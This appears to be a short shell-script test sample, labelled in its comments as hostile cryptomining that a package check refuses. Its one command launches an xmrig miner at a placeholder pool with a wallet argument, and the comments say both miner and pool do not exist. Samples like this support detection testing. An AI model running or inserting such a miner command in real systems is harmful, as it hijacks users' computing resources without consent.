#!/bin/sh
# Hostile: starts a miner (that is not there) for a pool (that does not exist).
# Families: cryptomining. As a package: refused.
/nonexistent-caisson/xmrig -o stratum+tcp://pool.example.invalid:3333 -u wallet --donate-level 0
